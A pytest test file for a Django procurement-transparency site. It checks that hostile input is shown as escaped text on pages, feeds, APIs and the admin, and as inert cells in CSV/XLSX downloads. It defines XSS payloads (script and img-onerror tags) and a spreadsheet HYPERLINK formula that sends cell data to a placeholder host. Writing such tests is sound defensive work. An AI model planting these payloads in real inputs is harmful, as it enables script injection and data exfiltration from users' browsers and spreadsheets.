"""Hostile text typed or imported anywhere is shown as text everywhere, never run as markup or
as a spreadsheet formula: titles, supplier names, comments, file names, PDF contents and
metadata, imported cells; on every page, in every feed, API answer and download."""

import csv
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from agencies.models import Agency
from contracts import services
from contracts.models import Bidder, DocumentType, Supplier
from contracts.pdf import inspect_upload
from contracts.samples import make_pdf
from imports.services import run_import
from opendata.bulk import build, files_for
from tests.factories import (
    answered_report,
    make_operator,
    make_process,
    make_supervisor,
    planning_fields,
)

# Markup that would run if any page printed it raw, and a cell that would run as a formula.
SCRIPT = '<script>alert("xss")</script>'
IMAGE = "<img src=x onerror=alert(1)>"
HOSTILE = f'"><{SCRIPT[1:]}{IMAGE}'
FORMULA = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
RAW_MARKERS = ["<script>alert", "<img src=x onerror", "<svg onload"]


def hostile(label):
    return f"{label} {HOSTILE} {FORMULA}"


@pytest.fixture
def hostile_world(media_root):
    health = Agency.objects.get(code="dinas-kesehatan")
    operator = make_operator(health)
    supplier = Supplier.objects.create(name=f"{FORMULA} CV {HOSTILE}", npwp="0012345678901000")
    process = make_process(
        health,
        **planning_fields(
            title=hostile("Judul"),
            description=hostile("Uraian"),
            location_kecamatan="Dander",
            location_desa=f"Desa {HOSTILE}",
        ),
        supplier=supplier,
    )
    Bidder.objects.create(process=process, supplier=supplier, bid_amount=1_000)
    # A PDF whose file name, title metadata and text are all hostile.
    name = f"{IMAGE}.pdf"
    uploaded = SimpleUploadedFile(name, make_pdf(hostile("PDF"), [hostile("isi")]))
    document_type = DocumentType.objects.get(code="kak-pelaksanaan")
    services.add_documents(
        process=process,
        stage=document_type.stage,
        document_type=document_type,
        uploads=[(uploaded, inspect_upload(uploaded))],
        by=operator,
    )
    services.publish_process(process=process, by=operator)
    answered_report(
        process,
        operator,
        hostile("Jawaban"),
        body=hostile("Laporan"),
        place=hostile("Tempat"),
        name=f"Nama {HOSTILE}",
    )
    return {"health": health, "operator": operator, "process": process, "supplier": supplier}


def body(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content


def assert_no_raw_markup(text, where):
    for marker in RAW_MARKERS:
        assert marker not in text, f"{where}: unescaped {marker!r}"


@pytest.mark.django_db
def test_pages_feeds_and_api_show_hostile_text_as_text(client, hostile_world):
    process, health = hostile_world["process"], hostile_world["health"]
    pages = [
        "/",
        reverse("contracts:process-list"),
        reverse("contracts:process-list") + "?q=judul",
        reverse("contracts:process-list") + "?q=" + "%3Cscript%3Ealert",
        reverse("contracts:process-detail", args=[process.pk]),
        reverse("contracts:agency-detail", args=[health.code]),
        reverse("contracts:supplier-detail", args=[hostile_world["supplier"].pk]),
        reverse("integrity:summary"),
        reverse("dashboards:openness"),
    ]
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert_no_raw_markup(html, url)
    page = client.get(reverse("contracts:process-detail", args=[process.pk])).content.decode()
    # Shown, escaped: the title, description, supplier, file name, report and answer.
    for label in ["Judul", "Uraian", "Laporan", "Jawaban", "Tempat"]:
        assert f"{label} &quot;&gt;&lt;script&gt;alert(&quot;xss&quot;)" in page, label
    # The document's title, taken from its file name.
    assert re.search(r'document__title">[^<]*&lt;img src=x onerror=alert\(1\)&gt;', page)

    feed = client.get(reverse("contracts:feed")).content.decode()
    assert_no_raw_markup(feed, "feed")
    assert "&lt;script&gt;" in feed  # in the feed, escaped once for XML

    for url in [
        reverse("opendata:api-packages"),
        reverse("opendata:api-package", args=[process.ocid]),
        reverse("opendata:release", args=[process.ocid]),
        reverse("opendata:record", args=[process.ocid]),
    ]:
        response = client.get(url)
        assert response["Content-Type"].startswith("application/json"), url
        assert response["X-Content-Type-Options"] == "nosniff"  # never sniffed as HTML
        # The hostile text is in the answer as data, whole (repr shows every string value).
        assert SCRIPT in repr(response.json()), url


@pytest.mark.django_db
def test_the_workspace_shows_hostile_text_as_text(client, hostile_world):
    process = hostile_world["process"]
    client.force_login(hostile_world["operator"])
    for url in [
        reverse("admin:contracts_process_changelist"),
        reverse("admin:contracts_process_change", args=[process.pk]),
        reverse("admin:participation_report_changelist"),
        reverse("admin:contracts_auditentry_changelist"),
        reverse("participation:open-reports"),
    ]:
        response = client.get(url)
        assert response.status_code == 200, url
        assert_no_raw_markup(response.content.decode(), url)


def csv_cells(content):
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(content):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_no_formula_cells(cells, where):
    """CSV cells (strings): formula-looking text starts with '. XLSX cells: no formula, and
    formula-looking text is a text cell (data type "s", as written, no apostrophe)."""
    found = 0
    for cell in cells:
        value = cell.value if hasattr(cell, "value") else cell
        if hasattr(cell, "data_type"):
            assert cell.data_type != "f", f"{where}: a formula cell {value!r}"
            if isinstance(value, str) and value.startswith(("=", "+", "-", "@")):
                assert cell.data_type == "s", f"{where}: {value!r} is no text cell"
        elif isinstance(value, str):
            assert not value.startswith(("=", "+", "-", "@")), f"{where}: {value!r}"
        if isinstance(value, str):
            found += FORMULA in value
    return found


@pytest.mark.django_db
def test_no_download_carries_a_formula_a_spreadsheet_would_run(client, hostile_world):
    build(base_url="http://testserver")
    year = str(hostile_world["process"].fiscal_year)
    neutralised = 0
    for scope in ["semua", year]:
        for name in files_for(scope):
            content = body(client.get(reverse("opendata:download", args=[scope, name])))
            if name.endswith(".csv"):
                neutralised += assert_no_formula_cells(csv_cells(content), f"{scope}/{name}")
            elif name.endswith(".xlsx"):
                neutralised += assert_no_formula_cells(xlsx_cells(content), f"{scope}/{name}")
    assert neutralised >= 4  # the hostile title, supplier and more were there, made inert
    # The supervisors' exports too.
    client.force_login(make_supervisor())
    health = hostile_world["health"]
    for url in [
        reverse("dashboards:cell", args=[int(year), health.code, "perencanaan"]) + "?format=csv",
        reverse("dashboards:cell", args=[int(year), health.code, "perencanaan"]) + "?format=xlsx",
    ]:
        content = body(client.get(url))
        cells = xlsx_cells(content) if "xlsx" in url else csv_cells(content)
        assert_no_formula_cells(cells, url)


@pytest.mark.django_db
def test_imported_cells_are_text_too(hostile_world):
    """A SiRUP export with a hostile package name: imported as data, shown escaped."""
    from django.conf import settings

    source = settings.BASE_DIR / "imports/data/bojonegoro/sirup_rup_penyedia_2018.csv"
    with open(source, encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        row = next(reader)
        columns = reader.fieldnames
    row.update({"kode_rup": "99887766", "nama_paket": hostile("Impor"), "deskripsi": HOSTILE})
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns)
    writer.writeheader()
    writer.writerow(row)
    report = run_import(
        kind="sirup", content=out.getvalue().encode(), filename="sirup.csv", commit=True
    )
    assert report.counts.get("created") == 1, report.counts
    html = Client().get(reverse("contracts:process-list") + "?q=impor").content.decode()
    assert "Impor &quot;&gt;&lt;script&gt;" in html
    assert_no_raw_markup(html, "list after import")


def test_the_markers_would_be_caught():
    """The checks above can fail: raw markup and formula cells are seen."""
    with pytest.raises(AssertionError):
        assert_no_raw_markup(f"<p>{SCRIPT}</p>", "contoh")
    with pytest.raises(AssertionError):
        assert_no_formula_cells([FORMULA], "contoh")
